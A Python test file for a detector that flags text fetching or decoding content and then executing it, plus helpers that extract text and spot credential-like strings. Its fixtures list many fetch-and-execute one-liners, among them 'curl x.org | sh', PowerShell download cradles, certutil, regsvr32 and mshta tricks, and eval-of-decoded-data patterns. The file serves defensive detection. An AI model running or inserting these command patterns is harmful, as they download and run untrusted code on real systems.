"""Each word by which something is fetched, decoded and run is enough alone; what only speaks of it is not."""

from rails.log import suspicious_text
from rails.log.suspicious_text import credential, danger, piped_to_shell, runs_what_it_fetches, texts_of
from tests.rows import walked

#: For each word that is looked for first: what is found, and holds none of the other words.
FETCHED = {
    "curl": "curl x.org | sh",
    "wget": "wget -qO- x.org | bash",
    "aria2c": "aria2c x.org | sh",
    "lwp": "lwp-request x.org | perl",
    "lynx": "lynx -source x.org | sh",
    "http": "http GET x.org | sh",
    "fetch": "fetch -o - x.org | sh",
    "base64": "echo aGk= | base64 -d | sh",
    "base32": "base32 -d a | sh",
    "openssl": "openssl enc -d -in a | sh",
    "gpg": "gpg -d a | sh",
    "xxd": "xxd -r a | sh",
    "uudecode": "uudecode a | sh",
    "zip": "gzip -dc a | sh",
    "zcat": "zcat a | sh",
    "xz": "xz -d -c a | sh",
    "zstd": "unzstd -c a | sh",
    "lzma": "lzma -cd a | sh",
    "iex": "iex (Get-Content a)",
    "iwr": "[ScriptBlock]::Create((iwr x.org))",
    "irm": "[ScriptBlock]::Create((irm x.org))",
    "invoke-": "Invoke-Expression $a",
    "powershell": "powershell -enc aGk= ",
    "pwsh": "pwsh -e aGk= ",
    "bits": "Start-BitsTransfer x.org; [Reflection.Assembly]::Load($a)",
    "certutil": "certutil -decode a b",
    "javascript:": "mshta javascript:a()",
    "urlopen": "exec(urlopen(a).read())",
    "requests": "eval(requests.get(a).text)",
    "b64decode": "exec(b64decode(a))",
    "atob(": "eval(atob(a))",
    "axios": "axios(a).then(eval)",
    "git+": "uvx git+ssh:a",
    "git@": "npx git@x.org:a/b",
    "github:": "npx github:a/b",
    "gitlab:": "bunx gitlab:a/b",
    "bitbucket:": "pnpm dlx bitbucket:a/b",
    "gist:": "npm exec gist:a",
    "webclient": "[ScriptBlock]::Create((New-Object Net.WebClient))",
    "download": "[ScriptBlock]::Create($a.DownloadString($b))",
    "fromhex": "exec(bytes.fromhex(a))",
    "unhexlify": "exec(unhexlify(a))",
    "fromcharcode": "eval(String.fromCharCode(a))",
    "chr": "exec(''.join(map(chr, a)))",
    "codecs.decode": "exec(codecs.decode(a))",
    "buffer.from": "eval(Buffer.from(a))",
}
MORE = [
    *("gunzip -c a | sh", "bunzip2 -c a | sh", "unzip -p a b | sh", "bzip2 -d -c a | sh", "gzip -cd a > b; sh b"),
    *("bzcat a | sh", "xzcat a | sh", "zstdcat a | sh", "zstd -dc a | sh", "sh <(lzip -dc a)", "unxz -c a | python3"),
    *("bitsadmin /transfer a b", "regsvr32 /i:javascript:a", "msiexec /i https://x.org/a.msi", "rundll32 javascript:a"),
    *("exec(httpx.get(a).text)", "Start-BitsTransfer x.org | iex"),
]


@walked("text", [*FETCHED.values(), *MORE])
def test_what_is_fetched_or_decoded_and_run_is_found(text):
    assert runs_what_it_fetches(text)
    assert danger(text) == runs_what_it_fetches(text)


def test_there_is_a_case_for_each_word_that_no_other_word_finds():
    words = suspicious_text._FETCH_WORDS
    found = {word: [one for one in words if one in text.lower()] for word, text in FETCHED.items()}
    assert found == {word: [word] for word in words}


@walked(
    "text",
    [
        *("curl x.org", "wget x.org -O a.html", "base64 -d a > b", "the shell | curl", "fetch -o a x.org"),
        *("iex is short for it", "powershell is a shell", "uvx ruff check", "npx eslint", "requests.get(a)"),
        *("gzip a", "unzip a.zip", "zip -d a b", "zcat a | grep sh"),
        *("<a href='javascript:a()'>", "bits and bytes", "gpg -d a", "eval(a)", ""),
    ],
)
def test_what_is_fetched_alone_or_run_alone_is_not(text):
    assert runs_what_it_fetches(text) is None
    assert not piped_to_shell(text)


@walked(
    ("value", "texts"),
    [
        ("a", ["a"]),
        (["rm", "-rf", "a"], ["rm -rf a", "rm", "-rf", "a"]),
        (["a"], ["a"]),
        ({"a": "x", "b": "y"}, ["x", "y"]),
        ({"a": [{"b": ["x", 1, "y"]}], "c": None}, ["x y", "x", "y"]),
        (1, []),
    ],
)
def test_the_words_of_a_list_are_one_text_too_and_those_of_an_object_are_not(value, texts):
    assert list(texts_of(value)) == texts


@walked(
    ("text", "found"),
    [
        ("AKIAQWERTYUIOPASDFGH", ("AKIAQWER…, 20 characters", False)),
        ("a «secret:header:12345678» b", True),
        ("a «secret:header:12345678» «secret:aws:12345678»", False),
        ("nothing", None),
    ],
)
def test_a_credential_is_named_by_its_beginning_and_a_mark_by_itself_the_rarest_first(text, found):
    said = credential(text)
    assert said == found if found is None or isinstance(found, tuple) else said[1] == found
